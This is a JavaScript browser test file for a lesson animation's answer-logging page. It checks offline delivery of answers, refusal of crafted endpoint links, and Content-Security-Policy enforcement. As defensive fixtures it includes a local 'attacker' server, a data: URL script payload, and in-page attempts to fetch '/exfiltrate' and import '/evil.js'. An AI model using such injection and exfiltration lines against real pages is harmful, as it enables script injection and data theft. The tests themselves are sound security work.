// The animation as a lesson host serves it: the SDK from the page's own folder, answers
// only to the collectors the lesson author lists, and a Content-Security-Policy.
//  - the collector serves no /sdk/ and is down when the page loads: the page still starts
//    its recorder, keeps the answers, and delivers them once the collector is up;
//  - a crafted link (?endpoint= of another server, or a data: URL) sends nothing anywhere
//    and runs nothing, and the page says why;
//  - the page's CSP blocks inline script and connections off its list.

import { test } from "node:test";
import assert from "node:assert/strict";
import http from "node:http";
import { once } from "node:events";
import { requireAll, startStack, launchBrowser, openAnimation, answerFreeText, waitFor, compareAnswers, freePort } from "./lib/harness.mjs";

const needs = ["collector", "pgcluster", "sdk", "chromium", "playwright"];

/** A server that records every request made to it (the attacker's, in a crafted link). */
async function recordingServer() {
  const seen = [];
  const server = http.createServer((req, res) => {
    seen.push(`${req.method} ${req.url}`);
    res.writeHead(200, { "access-control-allow-origin": "*", "access-control-allow-headers": "*", "content-type": "text/javascript" });
    res.end("window.pwned = true; export const init = async () => {};");
  });
  server.listen(await freePort(), "127.0.0.1");
  await once(server, "listening");
  return { url: `http://127.0.0.1:${server.address().port}`, seen, close: () => new Promise((r) => server.close(r)) };
}

test("collector down at load and no /sdk/: the SDK comes from the page's folder, answers are kept and arrive once it is up", async (t) => {
  const prereq = requireAll(t, needs);
  if (!prereq) return;
  const stack = await startStack(prereq, { name: "e2e_own_folder", collectorSdk: false });
  t.after(() => stack.cleanup());
  assert.notEqual((await fetch(`${stack.collector.url}/sdk/hourofci-log.js`)).status, 200, "the collector serves no SDK here");
  await stack.collector.stop();
  const { context, close } = await launchBrowser(prereq);
  t.after(close);

  const url = stack.animationUrl({ lesson: "gateway", level: "beginner" });
  let page = await openAnimation(context, url);
  const answers = ["kept while the collector was down", "a second one, 🌍 / ? # %"];
  for (const a of answers) await answerFreeText(page, a);
  await waitFor(async () => (await page.evaluate(() => window.hourofci.pending())) >= answers.length, { describe: "the SDK should hold both answers" });
  await page.close();
  assert.equal((await stack.rows("loggingtable")).length, 0);

  await stack.collector.start();
  page = await openAnimation(context, url);
  const rows = await waitFor(
    async () => {
      const r = await stack.rows("loggingtable");
      return r.length >= answers.length && r;
    },
    { timeoutMs: 90_000, describe: async () => `rows: ${compareAnswers(await stack.rows("loggingtable"), answers)}; collector log:\n${stack.collector.logTail(10)}` },
  );
  assert.equal(compareAnswers(rows, answers), "", "every answer exactly once");
  assert.ok(rows.every((r) => r.client_time), "each row keeps the time the learner answered");
});

test("a crafted ?endpoint= (another server, or a data: URL) gets nothing and runs nothing; the page says so", async (t) => {
  const prereq = requireAll(t, needs);
  if (!prereq) return;
  const stack = await startStack(prereq, { name: "e2e_crafted" });
  t.after(() => stack.cleanup());
  const attacker = await recordingServer();
  t.after(attacker.close);
  const { context, close } = await launchBrowser(prereq);
  t.after(close);

  for (const endpoint of [attacker.url, `data:text/javascript,window.pwned=true`, `${attacker.url}/x?y=1`]) {
    const page = await context.newPage();
    await page.goto(`${stack.pages.url}/animation/index.html?${new URLSearchParams({ endpoint, lesson: "gateway", level: "beginner" })}`);
    await page.waitForFunction(() => document.body.dataset.logging, null, { timeout: 30_000 });
    assert.equal(await page.evaluate(() => document.body.dataset.logging), "unavailable", `endpoint ${endpoint} must be refused`);
    assert.match(await page.textContent("#status"), /may not send answers to/, "the page says why it records nothing");
    await page.fill("#free-answer", "secret answer");
    await page.click("#free-submit");
    await page.waitForFunction(() => Number(document.body.dataset.logged || 0) >= 1, null, { timeout: 30_000 });
    assert.equal(await page.evaluate(() => window.pwned), undefined, "nothing from the link ran");
    await page.close();
  }
  assert.deepEqual(attacker.seen, [], "the crafted endpoint received nothing");
  assert.equal((await stack.rows("loggingtable")).length, 0);
});

test("the page's Content-Security-Policy blocks inline script and connections to servers off its list", async (t) => {
  const prereq = requireAll(t, needs);
  if (!prereq) return;
  const stack = await startStack(prereq, { name: "e2e_csp" });
  t.after(() => stack.cleanup());
  const attacker = await recordingServer();
  t.after(attacker.close);
  const { context, close } = await launchBrowser(prereq);
  t.after(close);

  const page = await openAnimation(context, stack.animationUrl({ lesson: "gateway", level: "beginner" }));
  const outcome = await page.evaluate(async (off) => {
    const inline = document.createElement("script");
    inline.textContent = "window.inlineRan = true;";
    document.head.append(inline);
    let fetched = "no";
    try {
      await fetch(`${off}/exfiltrate`, { method: "POST", body: "x" });
      fetched = "yes";
    } catch {
      fetched = "blocked";
    }
    let imported = "no";
    try {
      await import(`${off}/evil.js`);
      imported = "yes";
    } catch {
      imported = "blocked";
    }
    return { inlineRan: window.inlineRan === true, fetched, imported };
  }, attacker.url);
  assert.deepEqual(outcome, { inlineRan: false, fetched: "blocked", imported: "blocked" });
  assert.deepEqual(attacker.seen, [], "no request left the page for a server off its list");
  // The page still records to the listed collector.
  await answerFreeText(page, "still recorded");
  await waitFor(async () => (await stack.rows("loggingtable")).some((r) => r.answer === "still recorded"), { describe: "the answer to the listed collector" });
});

test("a browser with WebAssembly or storage disabled: the page says plainly that answers can't be recorded", async (t) => {
  const prereq = requireAll(t, needs);
  if (!prereq) return;
  const stack = await startStack(prereq, { name: "e2e_no_wasm" });
  t.after(() => stack.cleanup());
  const { context, close } = await launchBrowser(prereq);
  t.after(close);
  const disable = {
    "WebAssembly turned off": () => {
      delete window.WebAssembly;
    },
    "site storage is blocked": () => {
      Object.defineProperty(window, "localStorage", {
        get() {
          throw new DOMException("The user denied storage", "SecurityError");
        },
      });
    },
  };
  for (const [why, script] of Object.entries(disable)) {
    const page = await context.newPage();
    await page.addInitScript(script);
    await page.goto(stack.animationUrl({ lesson: "gateway", level: "beginner" }));
    await page.waitForFunction(() => document.body.dataset.logging, null, { timeout: 30_000 });
    assert.equal(await page.evaluate(() => document.body.dataset.logging), "unavailable", why);
    const status = await page.textContent("#status");
    assert.match(status, new RegExp(`can't be recorded here: .*${why}`), `the status line says why: ${status}`);
    await page.close();
  }
});
